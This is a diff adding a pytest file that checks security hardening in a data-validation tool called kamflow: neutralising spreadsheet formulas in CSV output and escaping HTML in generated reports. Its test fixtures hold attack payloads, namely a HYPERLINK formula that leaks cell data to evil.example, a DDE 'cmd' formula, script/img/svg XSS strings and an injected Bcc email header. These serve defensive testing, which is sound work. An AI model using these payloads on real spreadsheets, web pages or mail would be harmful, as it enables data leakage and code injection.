@@ -1,0 +1,156 @@
+"""Hardening found by a security review (issue 27): what a doctored snapshot, a careless
+operator or another local user could do, each checked against the real thing."""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import io
+import json
+from pathlib import Path
+from types import SimpleNamespace
+from urllib.parse import urlparse
+from urllib.request import url2pathname
+
+import pytest
+
+from kamflow.cli import main
+from kamflow.core.spreadsheet import FORMULA_STARTS, safe_cell, safe_frame
+from kamflow.generate import make_snapshot, write_snapshot
+from tests.conftest import AS_OF
+from tests.test_bad_inputs import rows, write
+
+PLAIN_NUMBER = ("-10.5", "+3", "-1e-3", ".5", "-0")
+
+
+def formula_cells(text: str) -> list[str]:
+    """The cells of a CSV text a spreadsheet would run as a formula."""
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
+            if cell.startswith(FORMULA_STARTS) and cell not in PLAIN_NUMBER
+            and safe_cell(cell) != cell]
+
+
+# --------------------------------------------------------------------------- 1: CSV formulas
+
+@pytest.mark.parametrize("value", [
+    '=HYPERLINK("http://evil.example/?leak="&C2,"click me")', "+1+cmd|' /C calc'!A0",
+    "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "=",
+])
+def test_a_formula_like_cell_is_prefixed_with_a_quote(value: str) -> None:
+    assert safe_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", [*PLAIN_NUMBER, "中国银行", "a=b", "", "'=already"])
+def test_plain_text_and_numbers_are_left_alone(value: str) -> None:
+    assert safe_cell(value) == value
+
+
+def test_safe_frame_neutralises_text_columns_only() -> None:
+    import pandas as pd
+
+    frame = pd.DataFrame({"name": ["=cmd()", "ok", None, "-5"], "n": [-1, 2, 3, -4],
+                          "mixed": ["@x", 7, None, "+a"]})
+    out = safe_frame(frame)
+    assert out["name"].tolist()[:2] == ["'=cmd()", "ok"] and out["name"].tolist()[3] == "-5"
+    assert pd.isna(out["name"].iloc[2])
+    assert out["n"].tolist() == [-1, 2, 3, -4]
+    assert out["mixed"].tolist()[:2] == ["'@x", 7] and out["mixed"].iloc[3] == "'+a"
+    assert frame["name"].iloc[0] == "=cmd()"  # the frame itself is not changed
+
+
+def test_report_csv_neutralises_a_manager_name_starting_with_a_formula() -> None:
+    """`kamflow report --format csv`: a manager's name or address as a formula is text."""
+    from kamflow.cli.report import _csv
+
+    found = SimpleNamespace(
+        periods=[{"period": "trailing 12 months", "accounts lost": 3, "revenue change": -1200.5}],
+        breakdowns={"manager": [{"manager": "=1+1@operator.example",
+                                 "manager name": '=HYPERLINK("http://evil.example","x")',
+                                 "accounts lost": 1, "revenue change": -3.0}]})
+    text = _csv(found)
+    assert formula_cells(text) == []
+    rows_ = list(csv.DictReader(io.StringIO(text)))
+    assert rows_[1]["manager name"] == '\'=HYPERLINK("http://evil.example","x")'
+    assert rows_[1]["group"] == "'=1+1@operator.example"
+    assert rows_[0]["revenue change"] == "-1200.5"  # numbers stay numbers
+
+
+# --------------------------------------------------------------------------- the doctored snapshot
+
+SCRIPT = "<script>alert('kamflow')</script>"
+IMG = "<img src=x onerror=alert(1)>"
+SVG = '"><svg onload=alert(1)>'
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&C2,"click me")'
+FAKE_LINES = "中国银行\r\nBcc: all@evil.example\r\n\r\nPlease pay to account 123"
+
+
+@pytest.fixture(scope="module")
+def doctored(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A 60-account snapshot with formula cells, script tags and control characters."""
+    out = tmp_path_factory.mktemp("doctored")
+    write_snapshot(make_snapshot(60, AS_OF, seed=3, bad_share=0.0), out)
+    (out / "ground_truth.csv").unlink()
+    path = out / "accounts.csv"
+    table = rows(path)
+    at = {name: i for i, name in enumerate(table[0])}
+    table[2][at["industry"]] = FORMULA              # line 3: unknown industry, quarantined
+    table[3][at["industry"]] = SCRIPT               # line 4
+    table[4][at["industry"]] = IMG                  # line 5
+    table[5][at["region"]] = SVG                    # line 6: an unknown region only warns
+    table[6][at["name_zh"]] = FAKE_LINES            # line 7: control characters
+    table[7][at["account_manager"]] = "王芳\n紧急\t@SUM(1+1)"  # line 8
+    table[8][at["name_en"]] = "-2+3+cmd|' /C calc'!A0"  # line 9: passes, a formula though
+    write(path, table)
+    return out
+
+
+@pytest.fixture(scope="module")
+def validated(doctored: Path, tmp_path_factory: pytest.TempPathFactory) -> dict:
+    """`kamflow validate --json` on the doctored snapshot, as a new user runs it."""
+    home = tmp_path_factory.mktemp("home")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("KAMFLOW_HOME", str(home))
+        patch.delenv("KAMFLOW_DATABASE_URL", raising=False)
+        buffer = io.StringIO()
+        with contextlib.redirect_stdout(buffer):
+            code = main(["validate", "--source", str(doctored), "--as-of", AS_OF.isoformat(),
+                         "--json"])
+    assert code == 0
+    return json.loads(buffer.getvalue())
+
+
+def test_doctored_snapshot_quarantine_csv_has_no_formula_cell(validated: dict) -> None:
+    with open(validated["quarantine_file"], encoding="utf-8", newline="") as handle:
+        text = handle.read()
+    values = {row["value"] for row in csv.DictReader(io.StringIO(text))}
+    assert {"'" + FORMULA, SCRIPT, IMG} <= values  # kept, the formula as text
+    assert formula_cells(text) == []
+
+
+def test_doctored_snapshot_data_docs_carry_no_raw_markup(validated: dict) -> None:
+    """No Data Docs page holds a tag from the data; the values are there, escaped."""
+    index = Path(url2pathname(urlparse(validated["data_docs"]).path))
+    pages = [p.read_text(encoding="utf-8") for p in index.parent.rglob("*.html")]
+    assert len(pages) >= 3
+    for raw in ("<script>alert", "<img src=x", "<svg onload"):
+        assert not [p for p in pages if raw in p], raw
+    assert any("&lt;script&gt;alert" in p for p in pages)
+    assert any("&lt;svg onload" in p for p in pages)
+
+
+def test_doctored_snapshot_control_characters_are_quarantined_with_reason(
+        validated: dict) -> None:
+    import pandas as pd
+
+    records = pd.read_csv(validated["quarantine_file"], dtype=str, keep_default_na=False)
+    mine = records.loc[records["expectation"] == "expect_column_values_to_not_match_regex"]
+    assert sorted(zip(mine["row"].astype(int), mine["column"], strict=True)) == [
+        (7, "name_zh"), (8, "account_manager")]
+    assert mine["reason"].str.contains("control character").all()
+    assert mine["reason"].str.contains("fake lines in the task emails").all()
+    assert FAKE_LINES in set(mine["value"])
+
+
+def test_the_offline_report_keeps_the_values_escaped(validated: dict) -> None:
+    page = Path(validated["offline_report"]).read_text(encoding="utf-8")
+    assert "<script>alert" not in page and "&lt;script&gt;alert" in page
